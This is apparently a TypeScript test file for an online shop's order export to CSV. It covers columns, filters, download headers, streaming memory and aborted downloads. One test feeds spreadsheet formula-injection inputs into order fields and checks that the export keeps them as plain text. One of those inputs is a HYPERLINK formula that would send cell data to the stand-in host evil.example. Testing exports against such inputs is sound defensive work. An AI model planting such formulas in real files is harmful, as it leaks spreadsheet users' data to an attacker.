import { request as httpRequest, type IncomingMessage } from 'node:http';
import { once } from 'node:events';
import { setTimeout as wait } from 'node:timers/promises';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { addToCart } from '@tailorbird/contract/cart';
import { exportOrders } from '@tailorbird/contract/order-desk';
import { listOrders, placeOrder, setOrderItemNote, updateOrder } from '@tailorbird/contract/orders';
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { openShop, type Shop } from '../../test/app.ts';
import { accounts, colour, products, size } from '../../test/fixture.ts';
import { fill, order as placeOne } from '../../test/shopper.ts';
import { fromCell } from '../csv/csv-cell.ts';
import type { Queryable } from '../database/pool.ts';
import { readRows } from '../transfer/csv-rows.ts';
import { exportName, exportOrders as streamOf } from './export-orders.ts';

const { customer, other, admin } = accounts;

let shop: Shop;
let token: string;
beforeAll(async () => {
  shop = await openShop();
  token = await shop.logIn(admin);
});
beforeEach(() => shop.database.query('delete from orders'));
afterAll(() => shop.close());

const send = (query: Record<string, string> = {}) => shop.call(exportOrders, { token, query });
const everything = { status: 'all' } as const;
const time = (date: string) => date.slice(0, 19).replace('T', ' ');

/** The rows behind the header, as a spreadsheet has them after taking apostrophes away. */
async function rowsOf(bytes: Buffer): Promise<string[][]> {
  const rows: string[][] = [];
  const text = (async function* () {
    yield bytes.toString().slice(1);
  })();
  for await (const { cells } of readRows(text, 'orders.csv')) rows.push(cells.map(fromCell));
  return rows.slice(1);
}

/**
 * Orders with three items of long notes each. Many at one moment, and the others a microsecond
 * apart, which JavaScript's dates do not tell.
 */
async function insertMany(count: number): Promise<void> {
  await shop.database.query(
    `with placed as (
       insert into orders (owner_id, id, order_number, cart_id, customer_name, customer_email,
                           total_cents, placed_at)
       select gen_random_uuid(), gen_random_uuid(), 'TB-' || n, gen_random_uuid(), 'Name ' || n,
              'mail' || n || '@mail.example', 3600,
              timestamptz '2026-01-01Z' + make_interval(secs => (n / 7) / 1e6)
       from generate_series(1, $1) n
       returning owner_id, id
     )
     insert into order_items (owner_id, order_id, id, position, product_id, product_name,
                              unit_price_cents, quantity, note)
     select owner_id, id, gen_random_uuid(), i, gen_random_uuid(), 'Item ' || i, 1200, 1,
            repeat('note ', 100)
     from placed cross join generate_series(1, 3) i`,
    [count],
  );
}

describe('the orders as CSV', () => {
  it('are a line for each item, newest first', async () => {
    const theirs = await shop.logIn(customer);
    const selectedOptions = [
      { optionId: colour.id, valueId: colour.olive.id },
      { optionId: size.id, valueId: size.small.id },
    ];
    const tote = { product: products.tote.id, quantity: 3, note: 'for Änne', selectedOptions };
    await shop.ask(addToCart, { token: theirs, body: tote });
    const cart = await fill(shop, theirs);
    const { order: first } = await shop.ask(placeOrder, { token: theirs, body: cart });
    const second = await placeOne(shop, await shop.guest());
    const body = { status: 'completed', adminNotes: 'paid\r\ntwice' };
    await shop.ask(updateOrder, { token, params: { id: first._id }, body });

    const [head, ...lines] = (await send()).bytes.toString().split(/\r\n(?=TB-|$)/);
    expect(head).toBe(
      '\uFEFFOrder,Date,Status,Customer,Email,Item,Quantity,Unit price,Line total,Order total,Options,Note,Admin notes',
    );
    const about = `${first.orderId},${time(first.orderDate)},completed,${customer.name},${customer.email}`;
    expect(lines[0]).toBe(
      `${second.orderId},${time(second.orderDate)},pending,,,Plain Sash,1,12.05,12.05,12.05,,,`,
    );
    expect(lines.slice(1).toSorted()).toEqual([
      '',
      `${about},Market Tote,3,24.50,73.50,85.55,"Colour: Olive, Size: Small",for Änne,"paid\r\ntwice"`,
      `${about},Plain Sash,1,12.05,12.05,85.55,,,"paid\r\ntwice"`,
    ]);
  });

  it('are a file to download whose name has the day', async () => {
    const { status, headers } = await send();
    expect(status).toBe(200);
    expect(headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'cache-control': 'no-store',
      'content-disposition': expect.stringMatching(
        /^attachment; filename="tailorbird-orders-\d{4}-\d\d-\d\d\.csv"$/,
      ),
    });
    expect(exportName(new Date('2026-05-14T23:59:59Z'))).toBe('tailorbird-orders-2026-05-14.csv');
  });

  it('of a shop without any have the header alone', async () => {
    const { bytes } = await send();
    expect(bytes.toString().trimEnd().split('\r\n')).toHaveLength(1);
  });

  it.each([
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    '+1+1',
    '-2+3',
    '@SUM(A1)',
    '＝1+1',
    "'=1+1",
    'a "quoted" name',
    'a, b; c',
    "O'Hara",
    'two\nlines\r\nand three',
  ])('hold %j as text, wherever a person wrote it', async (text) => {
    const placed = await placeOne(shop, await shop.logIn(customer));
    const params = { id: placed._id, itemId: placed.cart.items[0]?._id ?? '' };
    await shop.ask(updateOrder, { token, params, body: { adminNotes: text } });
    await shop.ask(setOrderItemNote, { token, params, body: { note: text } });
    await shop.database.query(
      'update orders set customer_name = $1, customer_email = $1, order_number = $1',
      [text],
    );
    await shop.database.query('update order_items set product_name = $1, selected_options = $2', [
      text,
      JSON.stringify([{ optionId: '', optionName: text, valueId: '', value: 'x' }]),
    ]);
    const { bytes } = await send();
    expect(await rowsOf(bytes)).toEqual([
      [
        text,
        time(placed.orderDate),
        'pending',
        text,
        text,
        text,
        '1',
        '12.05',
        '12.05',
        '12.05',
        `${text}: x`,
        text,
        text,
      ],
    ]);
    // no cell begins like a formula, in quotation marks or without
    expect(bytes.toString()).not.toMatch(/(^|,|\r\n)"?[=+\-@\t＝＋－＠]/u);
  });

  it('are those that the filter finds', async () => {
    const theirs = await shop.logIn(customer);
    const placed = [
      await placeOne(shop, theirs),
      await placeOne(shop, theirs),
      await placeOne(shop, await shop.logIn(other)),
      await placeOne(shop, await shop.guest()),
    ];
    for (const [day, { _id }] of placed.entries()) {
      await shop.database.query(
        "update orders set placed_at = timestamptz '2026-03-01 23:59:59Z' + make_interval(days => $2) where id = $1",
        [_id, day],
      );
    }
    const body = { status: 'cancelled' };
    await shop.ask(updateOrder, { token, params: { id: placed[1]?._id ?? '' }, body });
    const filters: Record<string, string>[] = [
      {},
      { status: 'cancelled' },
      { status: 'pending', customerEmail: 'CORA@' },
      { startDate: '2026-03-02', endDate: '2026-03-03' },
      { orderNumber: placed[2]?.orderId.slice(4).toLowerCase() ?? '' },
      { customerEmail: 'nobody@' },
    ];
    const found = new Set<number>();
    for (const query of filters) {
      const { orders } = await shop.ask(listOrders, { token, query });
      const rows = await rowsOf((await send(query)).bytes);
      expect(rows.map(([number]) => number)).toEqual(orders.map(({ orderId }) => orderId));
      found.add(orders.length);
    }
    expect(found).toEqual(new Set([4, 1, 2, 0]));
  });

  it.each([
    [{ status: 'lost' }, 'status must be all, pending, completed or cancelled.'],
    [{ startDate: 'today' }, 'startDate must be a date that looks like 2026-05-14.'],
    [{ orderNumber: 'x'.repeat(41) }, 'orderNumber must be 40 characters or less.'],
  ])('asked for with %j are refused in a sentence', async (query, error) => {
    const answer = await send(query);
    expect(answer).toMatchObject({ status: 400, body: { error } });
    expect(answer.headers['content-disposition']).toBeUndefined();
  });

  it.each([199, 200, 201, 1000])('are each there once when there are %i', async (count) => {
    await insertMany(count);
    const rows = await rowsOf((await send()).bytes);
    expect(rows).toHaveLength(3 * count);
    expect(new Set(rows.map(([number]) => number)).size).toBe(count);
    const { orders } = await shop.ask(listOrders, { token, query: { limit: 100 } });
    const numbers = rows.filter((_row, i) => i % 3 === 0).map(([number]) => number);
    expect(numbers.slice(0, 100)).toEqual(orders.map(({ orderId }) => orderId));
  });
});

describe('ten thousand orders as CSV', () => {
  const CHUNKS = 50;
  beforeEach(() => insertMany(10_000));

  it('take no more memory than a few', async () => {
    const atRest = heapInUse();
    let bytes = 0;
    let most = 0;
    let measuredAt = 0;
    const stream = streamOf(shop.database, everything);
    for await (const piece of stream) {
      bytes += Buffer.byteLength(String(piece));
      if (bytes - measuredAt < 1_000_000) continue;
      measuredAt = bytes;
      most = Math.max(most, heapInUse());
    }
    expect(bytes).toBeGreaterThan(15_000_000);
    expect(most - atRest).toBeLessThan(8_000_000);
  });

  it('are fetched as they are read, and no more once nobody reads', async () => {
    let fetched = 0;
    const counted: Queryable = {
      query(query, values) {
        fetched += 1;
        return shop.database.query(query, values);
      },
    };
    const stream = streamOf(counted, everything);
    await once(stream, 'readable');
    await wait(100);
    expect(fetched).toBeLessThan(4);
    stream.destroy();
    const then = fetched;
    await wait(100);
    expect(fetched).toBeLessThanOrEqual(then + 1);
  });

  it('end with whoever goes away, and in an error that is seen when the database fails', async () => {
    const port = await listen();
    const asked = vi.spyOn(shop.database, 'query');
    const leaving = await open(port);
    await once(leaving, 'data');
    leaving.destroy();
    await wait(300);
    const then = asked.mock.calls.length;
    await wait(300);
    expect(asked.mock.calls.length).toBe(then);
    expect(then).toBeLessThan(CHUNKS);

    const reading = await open(port);
    await once(reading, 'data');
    asked.mockRejectedValue(new Error('the database is gone'));
    reading.resume();
    // not the end of a whole file
    await expect(once(reading, 'end')).rejects.toThrow('aborted');
    expect(reading.complete).toBe(false);
    asked.mockRestore();
  });
});

async function listen(): Promise<number> {
  const address = await shop.server.listen({ port: 0, host: '127.0.0.1' });
  return Number(new URL(address).port);
}

async function open(port: number): Promise<IncomingMessage> {
  const headers = { authorization: `Bearer ${token}` };
  const asking = httpRequest({ port, path: '/api/order/export', headers }).end();
  const answer = await new Promise<IncomingMessage>((resolve, reject) => {
    asking.once('response', resolve).once('error', reject);
  });
  expect(answer.statusCode).toBe(200);
  answer.on('error', () => undefined);
  return answer;
}

setFlagsFromString('--expose-gc');
const collectGarbage: unknown = runInNewContext('gc');

/** Without what is only waiting to be collected. */
function heapInUse(): number {
  if (typeof collectGarbage === 'function') collectGarbage();
  const { heapUsed, arrayBuffers } = process.memoryUsage();
  return heapUsed + arrayBuffers;
}
